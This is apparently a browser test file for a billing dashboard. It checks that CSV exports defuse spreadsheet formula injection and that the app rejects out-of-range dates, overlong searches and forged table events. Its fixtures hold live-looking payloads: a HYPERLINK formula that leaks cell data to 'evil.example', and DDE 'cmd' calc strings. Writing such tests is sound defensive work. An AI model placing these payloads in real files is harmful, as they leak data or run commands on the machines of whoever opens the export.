"""Exports that are safe to open in a spreadsheet, dates and text that cannot break a page, and forged table events:
attacked through the running app."""

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import parse_qs, urlparse

import pytest
from playwright.sync_api import Page, expect

from dashboard.domain import clock
from tests.browser.conftest import World
from tests.factories import make_history, make_organisation, make_pool, make_user

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
CONTACT = '@SUM(1+1)'
# What the attacker stored in the history columns, and how the export must write each cell.
HISTORY_CELLS = {'actor': ('+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"),
                 'old_value': ('-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"),
                 'new_value': ('\t=1+1', "'\t=1+1"),
                 'note': ('\r=2+2";=1+2', "'\r=2+2\";=1+2")}
SERIAL = 'INJ-0001-EVIL'


@pytest.fixture(scope='module')
def injected(world: World) -> Iterator[int]:
    """An organisation of its own whose name, contact and history hold formulas; the other tests' data is untouched."""
    db = world.database()
    try:
        with db.session() as session:
            organisation = make_organisation(session, name=HYPERLINK, serial_number=SERIAL,
                                             subscription_end=clock.today() + timedelta(days=20))
            make_pool(session, organisation, total=7, in_use=3, expiry_date=clock.today() + timedelta(days=20))
            contact = make_user(session, organisation, 'billing_admin', full_name=CONTACT, email='sum@evil.example')
            organisation.main_contact_id = contact.id
            session.add(organisation)
            session.commit()
            make_history(session, organisation, occurred_at=datetime(2026, 3, 1, 10, tzinfo=UTC),
                         **{column: stored for column, (stored, _) in HISTORY_CELLS.items()})
            make_history(session, organisation, occurred_at=datetime(2026, 3, 2, 10, tzinfo=UTC), actor='Admin Team',
                         old_value='-5', new_value='12')
            yield organisation.id
    finally:
        db.engine.dispose()


def test_the_history_export_neutralises_every_formula_and_is_never_cached(open_as, world: World,
                                                                          injected: int) -> None:
    page = open_as('vendor_admin', '/vendor/overview')

    response = page.request.get(f'/billing/{injected}/history.csv')

    assert response.status == 200
    assert response.headers['cache-control'] == 'no-store'
    assert response.headers['x-content-type-options'] == 'nosniff'
    rows = _rows(response.body())
    header, *body = rows
    assert header[0] == 'Date (UTC)'
    formula_row = next(row for row in body if row[0].startswith('2026-03-01'))
    assert formula_row[5] == HISTORY_CELLS['actor'][1]
    assert formula_row[3] == HISTORY_CELLS['old_value'][1]
    assert formula_row[4] == HISTORY_CELLS['new_value'][1]
    assert formula_row[6] == HISTORY_CELLS['note'][1]
    number_row = next(row for row in body if row[0].startswith('2026-03-02'))
    assert (number_row[3], number_row[4]) == ('-5', '12')  # a negative number is a number, not a formula
    assert not [cell for row in body for cell in row if re.match(r' *[=+@\t\r]', cell)]
    # Every text cell is quoted, so a quote or a separator in a value cannot start a new cell.
    assert '"\'\r=2+2"";=1+2"' in response.body().decode('utf-8-sig')


def test_the_renewals_export_neutralises_names_and_contacts_and_keeps_numbers(open_as, world: World,
                                                                              injected: int) -> None:
    page = open_as('vendor_admin', '/vendor/overview')

    response = page.request.get('/vendor/renewals.csv?horizon=30&q=INJ-0001')

    assert response.status == 200
    assert response.headers['cache-control'] == 'no-store'
    assert response.headers['x-content-type-options'] == 'nosniff'
    header, row = _rows(response.body())
    shown = dict(zip(header, row, strict=True))
    assert shown['Account name'] == f"'{HYPERLINK}"
    assert shown['Main contact'] == f"'{CONTACT}"
    assert (shown['In use'], shown['Total'], shown['Days left']) == ('3', '7', '20')
    line = response.body().decode('utf-8-sig').splitlines()[1]
    assert re.search(r',20,3,7,\d+,', line), line  # numbers bare, so a spreadsheet reads them as numbers


@pytest.mark.parametrize('query', ['to=9999-12-31', 'from=0001-01-01', 'from=1999-12-31', 'to=2101-01-01'])
def test_a_date_out_of_range_is_refused_before_the_export_starts(open_as, world: World, query: str) -> None:
    page = open_as('billing_admin')

    response = page.request.get(f'/billing/{world.org_id}/history.csv?{query}')

    assert response.status == 400
    assert 'is not between 2000-01-01 and 2100-12-31' in response.text()
    assert world.serial not in response.text()


def test_a_renewals_period_far_in_the_future_is_refused(open_as) -> None:
    page = open_as('vendor_admin', '/vendor/overview')

    response = page.request.get('/vendor/renewals.csv?horizon=180&from=9999-12-01&to=9999-12-31')

    assert response.status == 400
    assert 'is not between 2000-01-01 and 2100-12-31' in response.text()


def test_the_history_page_with_a_far_future_date_opens_and_says_what_it_ignored(open_as, world: World) -> None:
    page = open_as('billing_admin', '/account/billing?tab=history&to=9999-12-31')

    expect(page.get_by_text('Ignored in the link: 9999-12-31 is not between 2000-01-01 and 2100-12-31')) \
        .to_be_visible()
    expect(page.locator('.q-table tbody tr').first).to_be_visible()
    expect(page.get_by_text('No licence history matches these filters.')).to_have_count(0)


def test_an_overlong_search_is_cut_so_the_address_still_reloads(open_as) -> None:
    page = open_as('billing_admin', '/account/billing?tab=history')
    search = page.locator('input[aria-label="Search"]')
    search.evaluate('input => input.removeAttribute("maxlength")')  # what a forged request can send anyway

    search.fill('x' * 5_000)  # 25 times the limit

    expect(page).to_have_url(re.compile(r'q=x+'))
    query = parse_qs(urlparse(page.url).query)
    assert query['q'] == ['x' * 200]
    response = page.reload()
    assert response is not None and response.status == 200
    expect(page.get_by_text('No licence history matches these filters.')).to_be_visible()


FORGED_REQUESTS = [{}, {'pagination': 'all'}, {'pagination': {'page': 'abc'}}, {'pagination': {'page': None}},
                   {'pagination': {'page': [2]}}, {'pagination': {'page': 2, 'rowsPerPage': 'all'}},
                   {'pagination': {'page': 1, 'sortBy': {'x': 1}}}]


def test_forged_paging_events_on_the_history_table_change_nothing_and_raise_nothing(open_as, world: World) -> None:
    page = open_as('billing_admin', '/account/billing?tab=history')
    table = page.locator('.q-table__container').first
    expect(table).to_be_visible()
    log = _server_log(world)
    logged_before = log.read_text(errors='replace').count('Traceback')
    url_before = page.url

    for args in FORGED_REQUESTS:
        _emit(page, 'request', args)
    page.wait_for_timeout(500)

    assert log.read_text(errors='replace').count('Traceback') == logged_before
    assert page.url == url_before
    _emit(page, 'request', {'pagination': {'page': 2, 'rowsPerPage': 10, 'sortBy': 'date', 'descending': True}})
    expect(page).to_have_url(re.compile(r'page=2'))  # the table still answers the real thing


def _emit(page: Page, event: str, args: object) -> None:
    """Sends the event as the table's own code would, with the arguments an attacker chose."""
    page.evaluate('''([event, args]) => {
        const element = document.querySelector('.q-table__container');
        getElement(element.id.replace(/^c/, '')).$emit(event, args);
    }''', [event, args])


def _server_log(world: World) -> Path:
    return Path(world.db_url.removeprefix('sqlite:///')).parent / 'server.log'


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode('utf-8-sig'))))
